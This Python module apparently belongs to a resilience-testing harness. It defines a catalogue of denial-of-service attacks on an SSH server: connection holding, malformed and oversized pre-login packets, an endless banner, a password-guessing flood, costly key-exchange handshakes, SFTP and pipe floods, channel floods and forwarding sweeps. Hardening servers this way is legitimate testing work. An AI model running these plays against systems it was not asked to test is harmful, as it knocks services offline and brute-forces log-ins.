# SPDX-License-Identifier: MIT
"""Attacks on SSH and on the places for connections: before the log-in, by log-ins, by transfers, by holding on."""

from __future__ import annotations

import asyncio
import contextlib
import os
import struct

import asyncssh

from hostile.attack import MOST_ROUNDS, Attack, Attacker, Play, Target, all_of, crowd, rounds

BANNER = b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"
CHUNK = 1 << 18


def held(connections: int, sources: int, port: str = "ssh", first: bytes = b"") -> Play:
    """Open connections, send `first`, and hold them until time is up."""

    async def one(target: Target, source: int) -> None:
        _, writer = await target.tcp(getattr(target, port), source)
        writer.write(first)
        await target.stay()
        writer.transport.abort()

    return crowd(connections, one, sources)


def garbage(*parts: bytes) -> Play:
    """Send each of `parts` to SSH on a connection of its own and read until it is closed."""

    async def one(target: Target, source: int, data: bytes) -> None:
        reader, writer = await target.tcp(target.ssh, source)
        try:
            writer.write(data)
            async with asyncio.timeout(min(2.0, target.left + 0.1)):
                while await reader.read(1 << 16):
                    pass
        finally:
            writer.transport.abort()

    async def play(target: Target) -> None:
        await rounds(target, lambda: all_of(*(one(target, number % 8, data) for number, data in enumerate(parts))))

    return play


async def guesses(target: Target, source: int) -> None:
    """Try one password after the other from one address, at 50 a second at most."""
    count = iter(range(MOST_ROUNDS))

    async def guess() -> None:
        await asyncio.sleep(0.02)
        connection = await target.log_in(source, f"guess-{source}-{next(count)}")
        connection.abort()

    await rounds(target, guess)


def handshakes(kex: str) -> Attacker:
    """Return an attacker that only exchanges keys, by an expensive method."""

    async def attacker(target: Target, source: int) -> None:
        async def handshake() -> None:
            connection = await target.log_in(source, kex=(kex,))
            connection.abort()

        await rounds(target, handshake)

    return attacker


def upload(megabytes: int) -> Attacker:
    """Return an attacker that uploads a file of that size by SFTP."""

    async def attacker(target: Target, number: int) -> None:
        async def send() -> None:
            block = os.urandom(CHUNK)
            async with (
                await target.log_in(number) as connection,
                connection.start_sftp_client() as sftp,
                sftp.open(f"up{number}", "wb") as file,
            ):
                for _ in range(megabytes * (1 << 20) // CHUNK):
                    if not target.left:
                        return
                    await asyncio.wait_for(file.write(block), target.left + 5)

        await rounds(target, send)

    return attacker


async def piped(target: Target, number: int) -> None:
    """Pipe data without end into a file."""

    async def send() -> None:
        async with await target.log_in(number) as connection:
            target.sent("session.command")
            process = await connection.create_process("cat > /tmp/big", encoding=None)
            while target.left:
                process.stdin.write(b"x" * CHUNK)
                await asyncio.wait_for(process.stdin.drain(), target.left + 1)

    await rounds(target, send)


async def channels(target: Target, number: int) -> None:
    """Open many sessions in one connection."""

    async def send() -> None:
        async with await target.log_in(number) as connection:
            await all_of(*(target.run(connection, "uname -a; cat /proc/cpuinfo") for _ in range(100)))

    await rounds(target, send)


async def forwards(target: Target, number: int) -> None:
    """Ask for forwarded connections, one after the other."""

    async def send() -> None:
        async with await target.log_in(number) as connection:
            for port in range(1, 200):
                with contextlib.suppress(asyncssh.ChannelOpenError):
                    await asyncio.wait_for(connection.open_connection("203.0.113.9", port), target.left + 1)

    await rounds(target, send)


def packet(payload: bytes) -> bytes:
    """Return an unencrypted SSH packet (RFC 4253 section 6)."""
    padding = 8 - (len(payload) + 5) % 8 + 8
    return struct.pack(">IB", len(payload) + padding + 1, padding) + payload + bytes(padding)


NAMES = b",".join(b"kex%d@example.com" % number for number in range(1500))
KEXINIT = packet(b"\x14" + bytes(16) + (struct.pack(">I", len(NAMES)) + NAMES) * 1 + bytes(40) + bytes(5))
OVERSIZE = BANNER + struct.pack(">IB", 0x7FFFFFFF, 4) + b"A" * 100_000
LONG_BANNER = b"SSH-2.0-" + b"A" * 100_000
COMMENTS = b"comment\r\n" * 20_000
GARBAGE = (
    b"GET / HTTP/1.0\r\n\r\n",
    b"SSH-1.5-x\r\n",
    b"SSH-2.0-\xff\xfe\r\n",
    bytes(1000),
    BANNER * 2,
    BANNER + b"\xff" * 500,
    BANNER + packet(b"\x05\x00"),
    BANNER + packet(b"\x14"),
)

ATTACKS = (
    Attack("1,000 half-open SSH", held(1000, 1), short=True),
    Attack("512 held, 25 addresses, SSH", held(512, 25), short=True),
    Attack("512 held, 25 addresses, SSH after banner", held(512, 25, first=BANNER)),
    Attack("512 held, 25 addresses, HTTP", held(512, 25, port="http", first=b"GET / HTTP/1.1\r\n")),
    Attack("2,000 held, 200 addresses", held(2000, 200)),
    Attack("garbage before log-in", garbage(*GARBAGE), short=True),
    Attack("SSH oversize packets", garbage(*[OVERSIZE] * 8)),
    Attack("SSH endless banner", garbage(*[LONG_BANNER, COMMENTS] * 4)),
    Attack("SSH long algorithm lists", garbage(*[BANNER + KEXINIT * 20] * 8)),
    Attack("log-in flood, 50 addresses", crowd(50, guesses), short=True),
    Attack("DH group18 x24", crowd(24, handshakes("diffie-hellman-group18-sha512"), sources=4)),
    Attack("DH group exchange x24", crowd(24, handshakes("diffie-hellman-group-exchange-sha256"), sources=4)),
    Attack("SFTP 1 GB", crowd(1, upload(1024))),
    Attack("SFTP 100 MB x10", crowd(10, upload(100))),
    Attack("cat > file without end x4", crowd(4, piped)),
    Attack("100 channels x4", crowd(4, channels)),
    Attack("forwarding requests x4", crowd(4, forwards)),
)  # fmt: skip
